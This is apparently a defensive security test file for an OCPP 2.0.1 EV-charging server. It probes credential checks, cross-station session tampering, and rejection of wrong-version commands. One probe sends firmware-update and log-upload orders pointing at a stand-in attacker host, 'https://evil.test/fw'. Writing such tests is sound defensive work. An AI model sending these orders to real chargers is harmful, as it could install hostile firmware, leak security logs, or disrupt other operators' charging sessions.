// The same door for chargers of OCPP 2.0.1: who may come in, and whose sessions they may touch.
import { charging } from '@atalaya/contract/charging/endpoints.ts';
import { chargingSessions } from '@atalaya/contract/charging/session-endpoints.ts';
import { rawCharger } from '../../../apps/server/src/testing/raw-charger.ts';
import { freshAddress, freshId, knock, register, type Attack } from './charger-knock.ts';

const protocol = 'ocpp2.0.1';

export const wrongCredentialsOfStations: Attack = async (site) => {
  const { port, call } = site;
  const [me, other, disabled] = [await register(site), await register(site), await register(site)];
  await call(charging.changeCharger, { query: { id: disabled.id }, body: { enabled: false } });
  const from = freshAddress();
  const knocks = {
    'no credentials': { id: me.id, password: null },
    'a wrong password': { id: me.id, password: 'wrong' },
    'the password of another charger': { id: me.id, password: other.password },
    'an unknown charger': { id: freshId(), password: me.password },
    'a disabled charger': { id: disabled.id, password: disabled.password },
  };
  const breaches: string[] = [];
  const replies = new Set<string>();
  for (const [name, options] of Object.entries(knocks)) {
    const reply = await knock({ port, ...options, protocol, from });
    replies.add(reply);
    if (!reply.startsWith('HTTP/1.1 401')) breaches.push(`${name}: ${reply.split('\r\n')[0]}`);
  }
  if (replies.size !== 1) breaches.push('the refusals can be told from one another');
  if ((await knock({ port, id: me.id, password: me.password, protocol })) !== 'in')
    breaches.push('the right password is refused as well: this proves nothing');
  return { tried: Object.keys(knocks).length, breaches };
};

/** Stations name their sessions themselves: two may use one name, and neither touches the other's. */
export const foreignStationSession: Attack = async (site) => {
  const { port, call } = site;
  const [victim, attacker] = [await register(site), await register(site)];
  const [a, b] = [await rawCharger({ port, ...victim, protocol }), await rawCharger({ port, ...attacker, protocol })];
  const timestamp = new Date().toISOString();
  const told = (eventType: string, seqNo: number, value: number) => ({
    eventType,
    timestamp,
    triggerReason: 'Trigger',
    seqNo,
    transactionInfo: { transactionId: 'SAME-NAME' },
    evse: { id: 1, connectorId: 1 },
    meterValue: [{ timestamp, sampledValue: [{ value }] }],
  });
  await a.ask('TransactionEvent', told('Started', 0, 100));
  await b.ask('TransactionEvent', told('Updated', 1, 999_999));
  await b.ask('TransactionEvent', told('Ended', 2, 999_999));
  const { data } = await call(chargingSessions.transactions, { query: { chargerId: victim.id } });
  a.cut();
  b.cut();
  const [session] = data;
  const breaches = session?.stoppedAt === null ? [] : ['the session of another charger was ended'];
  if (data.length !== 1 || session?.energyWh !== 0) breaches.push('the session of another charger was metered');
  return { tried: 2, breaches };
};

/** With a command that a charger's version does not know nothing is sent, whoever asks. */
export const commandsOfTheOtherVersion: Attack = async (site) => {
  const { port, call } = site;
  const { id, password } = await register(site);
  const charger = await rawCharger({ port, id, password, protocol });
  await charger.ask('Heartbeat');
  const breaches: string[] = [];
  const location = 'https://evil.test/fw';
  const orders = [
    { action: 'RemoteStopTransaction', payload: { transactionId: 1 } },
    { action: 'ChangeConfiguration', payload: { key: 'AuthorizationKey', value: 'x' } },
    { action: 'UpdateFirmware', payload: { requestId: 1, firmware: { location, retrieveDateTime: new Date().toISOString() } } },
    { action: 'GetLog', payload: { logType: 'SecurityLog', requestId: 1, log: { remoteLocation: location } } },
    { action: 'PublishFirmware', payload: { location, checksum: 'x', requestId: 1 } },
  ] as const;
  for (const order of orders)
    await call(charging.command, { body: { chargerId: id, ...order } }).then(
      () => breaches.push(order.action),
      () => undefined,
    );
  if (charger.asked.length > 0) breaches.push(`the charger was asked ${charger.asked.length} times`);
  charger.cut();
  return { tried: orders.length, breaches };
};
